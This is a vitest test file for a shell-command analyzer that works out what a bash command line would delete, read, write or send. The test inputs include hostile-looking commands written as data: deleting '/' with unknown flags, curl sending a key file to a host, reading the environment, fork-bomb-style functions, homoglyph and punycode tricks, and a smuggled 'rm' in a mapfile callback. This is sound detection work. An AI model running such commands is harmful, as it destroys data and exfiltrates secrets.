import { describe, expect, it } from "vitest";
import { contextOf, effectLines, programOf, understandCommand } from "./testing.ts";

const PROGRAM = programOf(`
  type remote-path { "{user}@{host:host}:{file}" }
  command mapfile { flags { -t -C=word -c=number } operands { array: word? } }
  command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
  command cat { flags { ... } operands { paths: path* } copy paths, stdin to stdout }
  command echo, mktemp { flags { ... } operands { words: word* } }
  command curl { flags { -H=word* -o=path } operands { urls: url* } copy urls to stdout }
  command bash { flags { -c } operands { code: word args: rest? } execute code as shell with rest = args }
  command env { flags { } operands { command: rest? } copy "/proc/self/environ" to stdout when not command }
  command tool { flags { } operands { words: word* } write "~/.tool/config" }
`);

function effects(command: string): readonly string[] {
  return effectLines(understandCommand(PROGRAM, command));
}

function deletes(command: string): readonly string[] {
  return effects(command).filter((line) => line.startsWith("delete"));
}

describe("what the shell computes", () => {
  it.each([
    ["rm a$((1 + 2 * 3))", "delete /repo/app/a7"],
    ["x=3; rm a$((x > 2 ? x << 1 : 0))", "delete /repo/app/a6"],
    ["((n = 2)); ((n++)); rm a$n", "delete /repo/app/a3"],
    ["rm a$((16#1f)) b", "delete /repo/app/a31"],
    ["X=/b; declare -n r=X; rm $r", "delete /b"],
    ["declare -n r=X; r=/b; rm $X", "delete /b"],
    ['X=/b; eval "rm ${X@Q}"', "delete /b"],
    ["X=ab; rm ${X@U}", "delete /repo/app/AB"],
    ["readonly D=/b; rm $D", "delete /b"],
    ["mapfile -t a <<< /b; rm ${a[0]}", "delete /b"],
    ["mapfile -C 'rm /b;' -c 1 a < f", "delete /b"],
    ['a=(-r /b); rm "${a[@]}"', "delete /b tree recursive"],
  ])("%s has the effect %s", (command, line) => expect(deletes(command)).toContain(line));

  it.each([
    ["if y; then cd x; fi; rm a/../../b/c", "delete ‹any›/b/c"],
    ['rm "/a/$X/b/../../c"', "delete ‹any›/c"],
    ['rm "/a/b/../$X/c"', "delete /a/‹any›/c"],
  ])("%s may lead back from anywhere: %s", (command, line) => expect(deletes(command)).toContain(line));

  it.each(["rm a$((y + 1))", "rm a$((1 / 0))", "for ((i = 0; i < 9; i++)); do rm a$i; done", "rm a$((RANDOM))"])(
    "%s is not known",
    (command) => expect(deletes(command)[0]).toBe("delete /repo/app/a‹any›"),
  );
});

describe("names that mktemp makes", () => {
  it.each([
    ['D=$(mktemp -d) && rm -r "$D"', "delete /tmp/tmp.XXXXXXXXX0 tree recursive"],
    ["D=$(mktemp -d -t x); rm -r $D", "delete /tmp/x.XXXXXXXXX0 tree recursive"],
    ["D=$(mktemp -p out a.XXXXXX.log); rm $D", "delete /repo/app/out/a.XXXXXXXXX0.log"],
    ["D=`mktemp /tmp/a.XXXX`; rm $D", "delete /tmp/a.XXXXXXXXX0"],
    ["D=$(mktemp -d); rm -r $D/sub", "delete /tmp/tmp.XXXXXXXXX0/sub tree recursive"],
  ])("%s has the effect %s", (command, line) => expect(deletes(command)).toContain(line));

  it("are names of what the script made", () => {
    const created = (command: string) =>
      understandCommand(PROGRAM, command)
        .effects.filter(({ verb }) => verb === "delete")
        .map(({ fields }) => fields.created);
    expect(created("D=$(mktemp); rm $D")).toEqual([{ kind: "truth", value: true }]);
    expect(created("D=$(mktemp -u); rm $D")).toEqual([{ kind: "truth", value: false }]);
  });
});

describe("functions", () => {
  it("of a subshell end with it", () => {
    expect(deletes("( f() { rm x; } ); f")).toEqual([]);
    expect(deletes("( f() { rm x; }; f )")).toEqual(["delete /repo/app/x"]);
  });
  it("take the place of one of the same name", () => {
    expect(deletes("f() { rm x; }; f() { rm y; }; f")).toEqual(["delete /repo/app/y"]);
    expect(deletes("if a; then f() { rm x; }; else f() { rm y; }; fi; f")).toEqual(["delete /repo/app/x", "delete /repo/app/y"]);
  });
});

describe("flags that are not known", () => {
  it.each([
    ["rm $FLAGS /", "delete / tree recursive?"],
    ['rm "-$F" /', "delete / tree recursive?"],
    ["rm -$F /", "delete / tree recursive?"],
    ["rm $A $B", "delete ‹any›"],
    ["rm a b", "delete /repo/app/a"],
  ])("%s has the effect %s", (command, line) => expect(deletes(command)).toContain(line));

  it("may be any that a rule asks for", () => {
    expect(understandCommand(PROGRAM, 'rm "-$F" /').calls[0]?.operandsOpen).toBe(true);
    expect(understandCommand(PROGRAM, "rm -f /").calls[0]?.operandsOpen).toBe(false);
  });
});

describe("single words", () => {
  it("of the process are as good as any", () => expect(deletes("rm a-$$")).toEqual(["delete /repo/app/a-31337"]));

  it("are not known with letters of another script in a word", () => {
    expect(effects("r\u043c -rf x").at(-1)).toMatch(/^unresolved/);
    expect(effects("echo \u043f\u0440\u0438")).toEqual([]);
  });
});

describe("functions that start themselves", () => {
  const recursive = (command: string) =>
    understandCommand(PROGRAM, command).effects.some(({ verb, fields }) => {
      const value = fields["calls-itself"];
      return verb === "command" && value?.kind === "truth" && value.value === true;
    });
  it.each(["f() { f & }; f", "f() { f | f & }; f", "f() { g & }; g() { f; }; f", "f() { g; }; g() { f & }; f"])("%s", (command) =>
    expect(recursive(command)).toBe(true),
  );
  it.each(["f() { f; }; f &", "f() { g & }; f; g() { f; }", "f() { rm x & }; f"])("%s does not", (command) =>
    expect(recursive(command)).toBe(false),
  );
});

describe("what is asked of another machine", () => {
  it.each(['curl "https://h/?k=$(cat key)"', 'curl -H "Authorization: $(cat key)" https://h'])("%s sends the file", (command) =>
    expect(effects(command)).toContain("send h sources=[/repo/app/key]"),
  );
  it("is sent the environment that it is piped", () => {
    expect(effects("env | cat")).toContain("read /proc/self/environ");
  });
  it("sends nothing where the question is known", () => {
    expect(effects("curl https://h/?q=1")).toEqual(["fetch h"]);
  });
});

it("a host in punycode is not resolved", () => {
  expect(effects("curl https://xn--80ak6aa92e.com/a")).toContain("unresolved: a host is written in letters that may look like others");
});

it("words after the code of a shell are its parameters", () => {
  expect(deletes("bash -c 'rm -r \"$1\"' _ build")).toEqual(["delete /repo/app/build tree recursive"]);
});

it("a tilde in a signature is the home", () => {
  expect(effectLines(understandCommand(PROGRAM, "tool", contextOf({ home: "/home/x" })))).toEqual(["write /home/x/.tool/config"]);
});

describe("flags that take two words", () => {
  const program = programOf(`
    command jq { flags { --arg=word+word* --rawfile=word+path* -n } operands { filter: word paths: path* } read paths, --rawfile }
    command find { flags { -fprintf=path+word -delete } operands { paths: path* } write -fprintf delete paths when -delete }
  `);
  it.each([
    ["jq --rawfile a secret .x file", ["read /repo/app/file", "read /repo/app/secret"]],
    ["jq --arg name -n .x file", ["read /repo/app/file"]],
    ["jq --rawfile a", []],
    ["find . -fprintf out -delete", ["write /repo/app/out"]],
    ["find . -delete -fprintf out %p", ["write /repo/app/out", "delete /repo/app"]],
  ])("%s has the effects %j", (command, lines) =>
    expect([...effectLines(understandCommand(program, command))].sort()).toEqual([...lines].sort()),
  );
});
